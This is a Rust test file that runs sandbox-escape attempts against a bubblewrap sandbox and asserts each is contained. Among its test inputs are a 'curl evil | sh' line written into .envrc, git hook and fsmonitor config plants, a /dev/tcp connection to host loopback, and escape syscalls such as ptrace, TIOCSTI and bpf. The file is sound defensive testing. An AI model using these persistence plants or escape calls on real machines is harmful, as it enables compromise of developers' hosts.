//! The sandbox-escape corpus against bubblewrap: every case in
//! `fixtures/security/native_escapes.toml`, then the cases that need a
//! workspace, a listener or a look at the host's processes.
#![cfg(target_os = "linux")]

use airlock_sandbox::{Access, Exit, Plan, ProcessLimits, RunOutput, detect};
use serde::Deserialize;
use std::path::PathBuf;
use std::time::Duration;

#[derive(Deserialize)]
struct Corpus {
    case: Vec<Case>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Case {
    name: String,
    script: String,
    exit: String,
    #[serde(default)]
    stdout_has: Vec<String>,
    #[serde(default)]
    stdout_lacks: Vec<String>,
    #[serde(default)]
    stderr_has: Vec<String>,
    /// `name = N`: stdout reports `name=M` with `M <= N`.
    #[serde(default)]
    at_most: std::collections::BTreeMap<String, u64>,
    #[serde(default)]
    limits: CaseLimits,
    /// Paths that must exist on the host for the case to prove anything.
    #[serde(default)]
    host_has: Vec<String>,
}

/// The number the script reported as `name=N` on stdout.
fn reported(text: &str, name: &str) -> Option<u64> {
    text.split_whitespace()
        .find_map(|word| word.strip_prefix(name)?.strip_prefix('=')?.parse().ok())
}

#[derive(Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct CaseLimits {
    wall_clock_ms: Option<u64>,
    processes: Option<u64>,
    open_files: Option<u64>,
    file_size_bytes: Option<u64>,
    cpu_seconds: Option<u64>,
    output_bytes: Option<usize>,
}

impl CaseLimits {
    fn apply(&self, mut limits: ProcessLimits) -> ProcessLimits {
        if let Some(ms) = self.wall_clock_ms {
            limits.wall_clock = Duration::from_millis(ms);
        }
        limits.processes = self.processes.unwrap_or(limits.processes);
        limits.open_files = self.open_files.unwrap_or(limits.open_files);
        limits.file_size_bytes = self.file_size_bytes.unwrap_or(limits.file_size_bytes);
        limits.cpu_seconds = self.cpu_seconds.unwrap_or(limits.cpu_seconds);
        limits.output_bytes = self.output_bytes.unwrap_or(limits.output_bytes);
        limits
    }
}

fn corpus() -> Corpus {
    let path =
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../fixtures/security/native_escapes.toml");
    let text = std::fs::read_to_string(&path).expect("read the corpus");
    toml::from_str(&text).expect("the corpus parses")
}

fn sh(script: &str) -> Plan {
    Plan::new("/bin/sh").args(["-c", script])
}

fn go(plan: &Plan) -> RunOutput {
    let backend = detect().expect("bubblewrap is installed (the test command installs it)");
    backend.run(plan, b"").expect("the sandbox runs")
}

fn stdout(out: &RunOutput) -> String {
    String::from_utf8_lossy(&out.stdout.bytes).into_owned()
}

#[test]
fn every_escape_in_the_corpus_is_contained() {
    for case in corpus().case {
        for path in &case.host_has {
            assert!(
                std::path::Path::new(path).exists(),
                "{}: the host has no {path}, so hiding it proves nothing",
                case.name
            );
        }
        let plan = sh(&case.script).limits(case.limits.apply(ProcessLimits::default()));
        let out = go(&plan);
        let text = stdout(&out);
        let context = format!(
            "{}: {:?}, stdout {:?}, stderr {:?}",
            case.name,
            out.exit,
            text.chars().take(300).collect::<String>(),
            String::from_utf8_lossy(&out.stderr.bytes)
                .chars()
                .take(300)
                .collect::<String>()
        );
        let ended_right = match case.exit.as_str() {
            "zero" => out.exit == Exit::Code(0),
            "nonzero" => {
                matches!(out.exit, Exit::Code(c) if c != 0) || matches!(out.exit, Exit::Signal(_))
            }
            "timeout" => out.exit == Exit::TimedOut,
            "any" => out.duration <= plan.limits.wall_clock + Duration::from_secs(5),
            "signal" => {
                matches!(out.exit, Exit::Signal(_)) || matches!(out.exit, Exit::Code(c) if c > 128)
            }
            other => panic!("{}: unknown exit `{other}`", case.name),
        };
        assert!(ended_right, "{context}");
        for fragment in &case.stdout_has {
            assert!(
                text.contains(fragment.as_str()),
                "{context}: lacks {fragment:?}"
            );
        }
        let errors = String::from_utf8_lossy(&out.stderr.bytes);
        for fragment in &case.stderr_has {
            assert!(
                errors.contains(fragment.as_str()),
                "{context}: stderr lacks {fragment:?}"
            );
        }
        for fragment in &case.stdout_lacks {
            assert!(
                !text.contains(fragment.as_str()),
                "{context}: has {fragment:?}"
            );
        }
        for (name, max) in &case.at_most {
            let value =
                reported(&text, name).unwrap_or_else(|| panic!("{context}: reports no `{name}=N`"));
            assert!(value <= *max, "{context}: {name}={value} > {max}");
        }
        if let Some(cap) = case.limits.output_bytes {
            assert_eq!(out.stdout.bytes.len(), cap, "{context}");
            assert!(out.stdout.dropped > 0, "{context}");
        }
        // The host survived the case: it still starts a sandbox.
        let after = go(&sh("echo alive"));
        assert_eq!(stdout(&after), "alive\n", "after {}", case.name);
    }
}

#[test]
fn a_writable_workspace_takes_writes_except_on_persistence_paths() {
    let workspace = tempfile::tempdir().expect("tempdir");
    let hooks = workspace.path().join(".git/hooks");
    std::fs::create_dir_all(&hooks).expect("hooks dir");
    // The sandbox runs as `nobody`: let it write the workspace.
    let everyone = |path: &std::path::Path| {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o777)).expect("chmod");
    };
    everyone(workspace.path());
    everyone(&hooks);
    let marker = format!("airlock-escape-{}", std::process::id());
    let plan = sh(&format!(
        "echo ok > /workspace/out.txt && echo wrote-out; \
         echo evil > /workspace/.git/hooks/pre-commit && echo wrote-hook; \
         echo x > /tmp/{marker} && echo wrote-tmp"
    ))
    .mount(workspace.path(), "/workspace", Access::ReadWrite)
    .cwd("/workspace");
    let out = go(&plan);
    let text = stdout(&out);
    assert!(text.contains("wrote-out"), "{text}");
    assert!(!text.contains("wrote-hook"), "{text}");
    assert!(
        text.contains("wrote-tmp"),
        "a private /tmp is writable: {text}"
    );
    assert_eq!(
        std::fs::read_to_string(workspace.path().join("out.txt")).expect("written"),
        "ok\n"
    );
    assert!(!hooks.join("pre-commit").exists(), "no hook was planted");
    assert!(
        !std::path::Path::new("/tmp").join(&marker).exists(),
        "the sandbox's /tmp is not the host's"
    );
}

/// A read-only grant nested in a writable one stays read-only, in whatever
/// order the plan lists them (the review found the writable parent bound
/// over its read-only child when listed after it).
#[test]
fn a_read_only_grant_inside_a_writable_one_stays_read_only() {
    let workspace = tempfile::tempdir().expect("tempdir");
    let reference = workspace.path().join("reference");
    std::fs::create_dir_all(&reference).expect("reference");
    for path in [workspace.path(), reference.as_path()] {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o777)).expect("chmod");
    }
    let script = "echo ok > /w/top.txt && echo wrote-top; \
                  echo evil > /w/reference/planted.txt && echo wrote-reference";
    let plan = sh(script)
        .mount(&reference, "/w/reference", Access::ReadOnly)
        .mount(workspace.path(), "/w", Access::ReadWrite);
    let text = stdout(&go(&plan));
    assert!(
        text.contains("wrote-top"),
        "the writable grant works: {text}"
    );
    assert!(!text.contains("wrote-reference"), "{text}");
    assert!(!reference.join("planted.txt").exists());
}

#[test]
fn persistence_paths_cannot_be_renamed_replaced_or_created() {
    let workspace = tempfile::tempdir().expect("tempdir");
    let git = workspace.path().join(".git");
    std::fs::create_dir_all(git.join("hooks")).expect("a repository");
    std::fs::write(git.join("config"), "[core]\n\tbare = false\n").expect("config");
    let everyone = |path: &std::path::Path| {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o777)).expect("chmod");
    };
    everyone(workspace.path());
    everyone(&git);
    // Each attempt prints its name when it succeeds.
    let attempts = [
        ("rename-git", "mv /workspace/.git /workspace/.git-old"),
        (
            "replace-config",
            "echo '[core] fsmonitor = evil' > /workspace/.git/config",
        ),
        ("new-git-file", "echo x > /workspace/.git/fsmonitor-hook"),
        ("create-envrc", "echo 'curl evil | sh' > /workspace/.envrc"),
        (
            "replace-envrc",
            "echo x > /workspace/e && mv /workspace/e /workspace/.envrc",
        ),
        ("create-vscode", "mkdir -p /workspace/.vscode/x"),
        (
            "remove-bashrc",
            "rm -f /workspace/.bashrc && [ ! -e /workspace/.bashrc ]",
        ),
        ("plain-write", "echo ok > /workspace/out.txt"),
    ];
    let script: String = attempts
        .iter()
        .map(|(name, command)| format!("({command}) 2>/dev/null && echo {name}; "))
        .collect();
    let plan = sh(&script)
        .mount(workspace.path(), "/workspace", Access::ReadWrite)
        .cwd("/workspace");
    let text = stdout(&go(&plan));
    for (name, _) in &attempts[..attempts.len() - 1] {
        assert!(!text.contains(name), "{name} succeeded: {text}");
    }
    assert!(
        text.contains("plain-write"),
        "the workspace stays writable: {text}"
    );
    assert_eq!(
        std::fs::read_to_string(git.join("config")).expect("config"),
        "[core]\n\tbare = false\n"
    );
    assert!(!workspace.path().join(".git-old").exists());
    // The stand-ins for what was missing are gone again.
    for missing in [".envrc", ".vscode", ".bashrc", ".idea"] {
        assert!(
            !workspace.path().join(missing).exists(),
            "{missing} left behind"
        );
    }
}

/// Runs on one workspace share its stand-ins, and none is removed while
/// another run binds it: removing one would unmount it in that run's
/// sandbox and let it create the file. Here a second run of this process
/// overlaps the first, and the test itself holds `.envrc` as another
/// process's run would (a shared lock on the file). The last run out
/// removes what no one holds; a stand-in left so is removed by a later run
/// (it carries the stand-in mark).
#[test]
fn stand_ins_stay_while_another_run_uses_the_workspace() {
    let workspace = tempfile::tempdir().expect("tempdir");
    for fifo in ["up", "go"] {
        let made = std::process::Command::new("mkfifo")
            .arg(workspace.path().join(fifo))
            .status()
            .expect("mkfifo");
        assert!(made.success());
    }
    // Under root the sandbox runs as `nobody`.
    for open in ["", "up", "go"] {
        use std::os::unix::fs::PermissionsExt;
        let path = workspace.path().join(open);
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o777)).expect("chmod");
    }
    let mount = |plan: Plan| {
        plan.mount(workspace.path(), "/workspace", Access::ReadWrite)
            .cwd("/workspace")
    };
    let exists = |name: &str| workspace.path().join(name).exists();
    let refused = "(echo x > /workspace/.envrc) 2>/dev/null || echo refused";
    // The first run says it is up, then waits to be let go.
    let first = mount(sh(&format!(
        "echo up > /workspace/up; read go < /workspace/go; {refused}"
    )));
    let first = std::thread::spawn(move || stdout(&go(&first)));
    let up = std::fs::read_to_string(workspace.path().join("up")).expect("the first run is up");
    assert_eq!(up, "up\n");
    let other_process = std::fs::File::open(workspace.path().join(".envrc")).expect(".envrc");
    rustix::fs::flock(&other_process, rustix::fs::FlockOperation::LockShared).expect("flock");

    let second = mount(sh(refused));
    assert!(stdout(&go(&second)).contains("refused"));
    for name in [".envrc", ".bashrc", ".vscode", ".git"] {
        assert!(exists(name), "{name} was removed under the first run");
    }
    std::fs::write(workspace.path().join("go"), "go\n").expect("let the first run go");
    let text = first.join().expect("the first run");
    assert!(text.contains("refused"), "its stand-in held: {text}");
    for name in [".bashrc", ".vscode", ".git"] {
        assert!(!exists(name), "{name} left behind by the last run out");
    }
    assert!(
        exists(".envrc"),
        "removed while another process's run holds it"
    );

    drop(other_process);
    let later = mount(sh(refused));
    assert!(stdout(&go(&later)).contains("refused"));
    assert!(
        !exists(".envrc"),
        "a later run removes the stand-in left behind"
    );
    assert!(!exists(".bashrc"), "and its own");
}

#[test]
fn a_persistence_path_that_is_a_link_is_refused() {
    let workspace = tempfile::tempdir().expect("tempdir");
    std::os::unix::fs::symlink("/workspace/planted", workspace.path().join(".envrc"))
        .expect("symlink");
    let plan = sh("echo ran")
        .mount(workspace.path(), "/workspace", Access::ReadWrite)
        .cwd("/workspace");
    let backend = detect().expect("bubblewrap");
    let refused = backend.run(&plan, b"").expect_err("refused");
    assert!(refused.to_string().contains(".envrc"), "{refused}");
}

#[test]
fn a_listener_on_the_hosts_loopback_is_unreachable() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    listener.set_nonblocking(true).expect("nonblocking");
    let port = listener.local_addr().expect("addr").port();
    let plan = Plan::new("/bin/bash").args([
        "-c",
        &format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected"),
    ]);
    let out = go(&plan);
    assert!(!stdout(&out).contains("connected"), "{out:?}");
    assert!(matches!(out.exit, Exit::Code(c) if c != 0), "{out:?}");
    assert!(
        listener.accept().is_err(),
        "nothing reached the host's listener"
    );
}

/// A setuid program gains nothing in the sandbox. A setuid-root copy of
/// `id` reports `euid=0(root)` when `nobody` runs it on the host (the
/// control: the probe shows a gain where one happens); inside the sandbox
/// it reports only the sandbox user's own ids, under `NoNewPrivs`.
#[test]
fn a_setuid_program_gains_nothing() {
    use std::os::unix::fs::PermissionsExt;
    use std::os::unix::process::CommandExt;
    assert!(
        is_root(),
        "making a setuid-root program needs root: run the suite as root \
         (`sudo bash .ci/test`, as CI does); this test never skips"
    );
    // Under the build directory, which is not mounted `nosuid` the way a
    // tmpfs /tmp may be.
    let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).expect("tempdir");
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let probe = dir.path().join("id");
    std::fs::copy("/usr/bin/id", &probe).expect("copy id");
    std::fs::set_permissions(&probe, std::fs::Permissions::from_mode(0o4755)).expect("setuid");

    let outside = std::process::Command::new(&probe)
        .uid(65534)
        .gid(65534)
        .output()
        .expect("run the probe as nobody");
    let outside = String::from_utf8_lossy(&outside.stdout);
    assert!(
        outside.contains("uid=65534") && outside.contains("euid=0(root)"),
        "the control shows no gain, so the probe cannot show one: {outside}"
    );

    let plan = sh("/probe/id; grep '^NoNewPrivs' /proc/self/status").mount(
        dir.path(),
        "/probe",
        Access::ReadOnly,
    );
    let out = go(&plan);
    let inside = stdout(&out);
    assert_eq!(out.exit, Exit::Code(0), "{out:?}");
    assert!(inside.contains("uid=65534"), "{inside}");
    assert!(!inside.contains("euid="), "the setuid bit took: {inside}");
    assert!(inside.contains("NoNewPrivs:\t1"), "{inside}");
}

/// Processes on this machine whose command line is exactly `words`.
fn running(words: &[&str]) -> usize {
    let wanted = words.join("\0") + "\0";
    std::fs::read_dir("/proc")
        .expect("/proc")
        .filter_map(Result::ok)
        .filter(|e| {
            std::fs::read(e.path().join("cmdline"))
                .is_ok_and(|cmdline| cmdline == wanted.as_bytes())
        })
        .count()
}

#[test]
fn the_wall_clock_limit_kills_background_children_too() {
    let plan = sh("sleep 313 & sleep 317 & wait").limits(ProcessLimits {
        wall_clock: Duration::from_secs(1),
        ..ProcessLimits::default()
    });
    let out = go(&plan);
    assert_eq!(out.exit, Exit::TimedOut);
    assert!(out.duration < Duration::from_secs(10), "{:?}", out.duration);
    // The pid namespace died with bwrap: no orphan is left on the host.
    assert_eq!(running(&["sleep", "313"]), 0, "an orphan survived");
    assert_eq!(running(&["sleep", "317"]), 0, "an orphan survived");
}

#[test]
fn a_cancel_ends_the_run_and_everything_it_started() {
    let cancel = airlock_sandbox::Cancel::new();
    let plan = sh("sleep 331 & sleep 337 & wait")
        .limits(ProcessLimits {
            wall_clock: Duration::from_secs(120),
            ..ProcessLimits::default()
        })
        .cancel_on(cancel.clone());
    let canceller = std::thread::spawn(move || {
        // Cancel once the program is really running (bounded wait).
        let started = std::time::Instant::now();
        while running(&["sleep", "337"]) == 0 && started.elapsed() < Duration::from_secs(30) {
            std::thread::yield_now();
        }
        cancel.cancel();
    });
    let out = go(&plan);
    canceller.join().expect("canceller");
    assert_eq!(out.exit, Exit::Cancelled);
    assert!(out.duration < Duration::from_secs(60), "{:?}", out.duration);
    assert_eq!(running(&["sleep", "331"]), 0, "an orphan survived");
    assert_eq!(running(&["sleep", "337"]), 0, "an orphan survived");

    // Cancelled before it starts: it ends at once, the same way.
    let cancel = airlock_sandbox::Cancel::new();
    cancel.cancel();
    let out = go(&sh("sleep 341").cancel_on(cancel));
    assert_eq!(out.exit, Exit::Cancelled);
    assert_eq!(running(&["sleep", "341"]), 0, "an orphan survived");
}

#[test]
fn the_seccomp_filter_refuses_escape_system_calls() {
    // Each call is one an escape uses; without the filter most would work
    // (ptrace(TRACEME)) or fail with another errno (TIOCSTI on a pipe:
    // ENOTTY). EPERM shows the filter answered.
    let script = format!(
        r#"import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def check(name, rc):
    print(name, rc, ctypes.get_errno())
check("ptrace", libc.ptrace(0, 0, 0, 0))
check("unshare", libc.unshare(0x10000000))
check("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
check("keyctl", libc.syscall({keyctl}, 0, -3, 0))
check("bpf", libc.syscall({bpf}, 0, 0, 0))
check("TIOCSTI", libc.ioctl(0, 0x5412, b"x"))
"#,
        keyctl = libc::SYS_keyctl,
        bpf = libc::SYS_bpf,
    );
    let out = go(&Plan::new("/usr/bin/python3").args(["-c", &script]));
    let text = stdout(&out);
    assert_eq!(out.exit, Exit::Code(0), "{out:?}");
    for name in ["ptrace", "unshare", "mount", "keyctl", "bpf", "TIOCSTI"] {
        let expected = format!("{name} -1 {}\n", libc::EPERM);
        assert!(text.contains(&expected), "{name} was not refused: {text}");
    }
    let names: Vec<&str> = airlock_sandbox::seccomp::denied_names().collect();
    for name in [
        "ptrace",
        "mount",
        "keyctl",
        "bpf",
        "unshare",
        "setns",
        "TIOCSTI",
        "io_uring_setup",
        "every x32 system call",
    ] {
        assert!(names.contains(&name), "{name} is on the list");
    }
}

/// The process limit counts the sandbox's own processes, not everything
/// its user runs outside: a user with more processes than the limit (here
/// `nobody`, whom a root airlock runs tools as, or the test's own user and
/// its threads) still starts a sandbox, and the limit still holds inside.
#[test]
fn the_process_limit_counts_only_the_sandbox() {
    use std::os::unix::process::CommandExt;
    let root = is_root();
    let mut outside: Vec<std::process::Child> = (0..10)
        .map(|_| {
            let mut sleep = std::process::Command::new("sleep");
            sleep.arg("30");
            if root {
                sleep.uid(65534).gid(65534);
            }
            sleep.spawn().expect("sleep")
        })
        .collect();
    let plan = sh("echo started; for i in 1 2 3 4 5 6 7 8; do sleep 5 & done; wait").limits(
        ProcessLimits {
            processes: 4,
            wall_clock: Duration::from_secs(20),
            ..ProcessLimits::default()
        },
    );
    let out = go(&plan);
    for child in &mut outside {
        let _ = child.kill();
        let _ = child.wait();
    }
    let stdout = String::from_utf8_lossy(&out.stdout.bytes);
    let stderr = String::from_utf8_lossy(&out.stderr.bytes);
    assert!(stdout.contains("started"), "{stdout} {stderr}");
    assert!(
        stderr.contains("Cannot fork"),
        "the limit holds inside: {stderr}"
    );
}

/// Whether this test runs as root (`/proc/self` belongs to the effective
/// user).
fn is_root() -> bool {
    std::fs::metadata("/proc/self")
        .map(|m| std::os::unix::fs::MetadataExt::uid(&m) == 0)
        .unwrap_or(false)
}

#[test]
fn a_spawned_server_talks_over_stdio_confined_and_dies_with_its_handle() {
    use std::io::{BufRead, Write};
    let backend = detect().expect("bubblewrap is installed by the test command");
    // A tiny line server: answers each line with what the sandbox lets it see.
    let plan = sh("sleep 353 & while read line; do \
           if [ -e /etc/shadow ]; then s=visible; else s=hidden; fi; \
           echo \"$line shadow=$s home=${HOME:-unset}\"; \
         done");
    let mut server = backend.spawn(&plan).expect("spawned");
    let mut stdin = server.child.stdin.take().expect("stdin");
    let mut stdout = std::io::BufReader::new(server.child.stdout.take().expect("stdout"));
    for word in ["one", "two"] {
        writeln!(stdin, "{word}").expect("write");
        let mut answer = String::new();
        stdout.read_line(&mut answer).expect("read");
        assert_eq!(answer.trim(), format!("{word} shadow=hidden home=unset"));
    }
    let started = std::time::Instant::now();
    while running(&["sleep", "353"]) == 0 && started.elapsed() < std::time::Duration::from_secs(30)
    {
        std::thread::yield_now();
    }
    assert_eq!(running(&["sleep", "353"]), 1, "the server's child runs");
    drop(server);
    assert_eq!(
        running(&["sleep", "353"]),
        0,
        "dropping the handle ends it all"
    );
}
